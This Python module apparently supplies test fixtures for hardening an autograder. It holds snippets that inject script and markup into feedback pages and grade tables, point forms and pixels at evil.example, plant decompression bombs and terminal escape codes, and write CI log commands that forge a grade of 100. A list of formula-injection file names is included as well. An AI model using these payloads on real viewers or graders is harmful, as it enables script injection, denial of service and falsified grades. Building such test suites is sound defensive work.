"""Attacks on whoever reads the feedback page, the report, the table of grades or the terminal."""

from __future__ import annotations

ATTACKS: dict[str, str] = {
    "script in HTML": """
from IPython.display import HTML, display
print("ARMED")
display(HTML("<script>window.owned=1</script><b onclick='owned()'>bold</b><iframe src='data:text/html,x'></iframe>"))
display(HTML("<table onmouseover='x()' style='position:fixed'><tr><td><img src=x onerror=x()>cell</td></tr></table>"))
""",
    "HTML that ends the page": """
from IPython.display import HTML, display
print("ARMED </pre></details></main></body></html><script>window.owned=1</script>")
display(HTML("</table></body><base href='https://evil.example/'><form action='https://evil.example/'><input name=q></form>"))
""",
    "SVG with script": """
from IPython.display import SVG, display
print("ARMED")
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='owned()'><script>owned()</script></svg>"))
""",
    "links in Markdown and LaTeX": """
from IPython.display import Latex, Markdown, display
print("ARMED")
display(Markdown("[x](javascript:owned()) ![x](https://evil.example/pixel.png)"))
display(Latex(r"\\href{javascript:owned()}{x}"))
""",
    "JavaScript and widgets": """
from IPython.display import Javascript, display
print("ARMED")
display(Javascript("window.owned=1"))
display({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "application/javascript": "owned()"}, raw=True)
""",
    "picture that is none": """
import base64
from IPython.display import display
print("ARMED")
display({"image/png": 'iVBORw0KGgo=" onerror="owned()'}, raw=True)
display({"image/png": base64.b64encode(b"\\x89PNG\\r\\n\\x1a\\n" + b"rubbish" * 100).decode()}, raw=True)
display({"image/svg+xml": "<svg/>", "image/gif": "R0lGODlh"}, raw=True)
""",
    "picture of a billion pixels": """
import base64, struct, zlib
from IPython.display import display
def chunk(kind, data): return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
big = b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 60000, 60000, 8, 0, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(b"\\0" * 10_000_000)) + chunk(b"IEND", b"")
print("ARMED")
display({"image/png": base64.b64encode(big).decode()}, raw=True)
""",
    "error with markup": """
print("ARMED")
raise type("<script>owned()</script>", (Exception,), {})("<img src=x onerror=owned()> \\x1b[2J\\x1b]0;owned\\x07")
""",
    "terminal codes and direction marks": """
print("ARMED \\x1b[31m\\x1b[2J\\x1b]0;owned\\x07\\x9b2J \\u202eevil\\u202c \\u2066x\\u2069 \\u200bzero \\ufeff \\x00nul \\x08\\x08back")
""",
    "markup in a value": """
class Markup:
    def __repr__(self): return "<script>owned()</script>\\x1b[2J"
mean_reading = Markup()
def predict(X): return ["<img src=x onerror=owned()>"] * len(X)
print("ARMED")
""",
    "commands for the log": 'print("ARMED\\n::set-output name=grade::100\\n::error file=a::owned\\n##[command]rm")',
    "a table whose columns are commands": r"""
import pandas as pd
mean_reading = pd.DataFrame([["a", "b"]], columns=["<script>owned()</script>\x1b[2J\x1b]0;owned\x07\u202eevil\u2066\u061c\ud800", "line\nbreak"])
def predict(X): return pd.Series(["a", "b"], name=mean_reading.columns[0])
print("ARMED")
""",
    "keys, types and names that are commands": r"""
mean_reading = {"<script>owned()</script>\x1b[2J\x1b]0;owned\x07\u202eevil\u2066\u061c\ud800": ["<script>owned()</script>\x1b[2J\x1b]0;owned\x07\u202eevil\u2066\u061c\ud800"], ("<script>owned()</script>\x1b[2J\x1b]0;owned\x07\u202eevil\u2066\u061c\ud800",): "x"}
Odd = type("<script>owned()</script>\x1b[2J\x1b]0;owned\x07\u202eevil\u2066\u061c\ud800".replace("\ud800", ""), (), {"__module__": "<img src=x>"})
def standardise(X): return Odd()
def predict(X): raise type("<b>`code`</b>", (Exception,), {})("`a`\n\n# heading\n<img src=x onerror=owned()>")
print("ARMED")
""",
    "mime types of every kind": r"""
from IPython.display import display
print("ARMED")
for kind in ("text/latex", "text/markdown", "application/javascript", "application/vnd.vega.v5+json", "application/vnd.plotly.v1+json", "application/pdf",
             "image/svg+xml", "text/html", "text/x-<script>", "application/geo+json", "application/vnd.jupyter.widget-view+json", "video/mp4", "text/vnd.mermaid"):
    display({kind: "<script>window.owned=1</script><svg onload=owned()>", "text/plain": "plain"}, raw=True)
display({"text/html": "<table><svg><desc><table onload=x()><script>owned()</script></table></svg><tr><td><math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=owned()&gt;'></table>"}, raw=True)
display({"text/html": "<table><tr><td><plaintext></td></tr></table><script>owned()</script>"}, raw=True)
display({"text/html": "<table><tr><th>\x00<scr\x00ipt>owned()</scr\x00ipt></th></tr></table>"}, raw=True)
display({"text/html": "<table>" * 8000}, raw=True)
display({"text/html": "<table><tr><td>" + "<b><i>" * 9000}, raw=True)
""",
    "pictures with hidden loads": r"""
import base64, io, struct, zlib
from IPython.display import display
def chunk(kind, data): return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
def png(*more): return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)) + b"".join(more) + chunk(b"IDAT", zlib.compress(b"\0" + b"\0" * 6 + b"\0" + b"\0" * 6)) + chunk(b"IEND", b"")
bomb = zlib.compress(b"x" * (80 << 20), 1)
for data in (png(chunk(b"tEXt", b"Comment\0<script>owned()</script>")), png(chunk(b"zTXt", b"a\0\0" + bomb)), png(chunk(b"iCCP", b"a\0\0" + bomb)),
             png(chunk(b"iTXt", b"a\0\1\0\0\0" + bomb)), png() + b"PK\x03\x04", b"GIF89a" + b"\0" * 100, b"\xff\xd8\xff\xe0" + b"\0" * 1000,
             b"%!PS-Adobe-3.0 EPSF-3.0\n(owned) print", b"RIFF\0\0\0\0WEBPVP8 "):
    for kind in ("image/png", "image/jpeg"): display({kind: base64.b64encode(data).decode()}, raw=True)
print("ARMED")
""",
    "display ids updated a thousand times": r"""
from IPython.display import display, clear_output, update_display
handle = display("start", display_id="one")
for n in range(1_000):
    handle.update(f"<b>{n}</b>")
    if n % 100 == 0: clear_output(wait=True)
print("ARMED")
""",
    "every kind of line end and overprint": r"""
print("ARMED", end="\r"); print("10 of 10 points", end="\x0b\x0c\x85\u2028\u2029")
print("\x1b", end="", flush=True)
import sys; sys.stderr.write("[2J\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\n"); sys.stderr.flush()
print("\x1b[31", end="", flush=True); sys.stderr.write("m\x9d0;owned\x9c\x1bP1$r\x1b\\\n")
print("ARMED")
""",
    "errors that are chains and groups": r"""
print("ARMED")
class Bad(Exception):
    def __str__(self): raise SystemExit(0)
    __repr__ = __str__
    @property
    def __traceback__(self): raise KeyboardInterrupt
try: raise Bad from ExceptionGroup("<script>", [Bad(), ValueError("\x1b[2J")])
except Bad as error:
    error.__notes__ = ["<script>owned()</script>"] * 1000
    raise
""",
}
NAMES = {
    # Names as a file name could carry them; what is not acceptable is refused, never run.
    "formula": "=1+1",
    "at": "@SUM(A1)",
    "wide equals": "＝1+1",
    "markup": "<script>owned()</script>",
    "terminal": "\x1b[2Jname",
    "device": "CON",
    "hyphen": "--help",
}
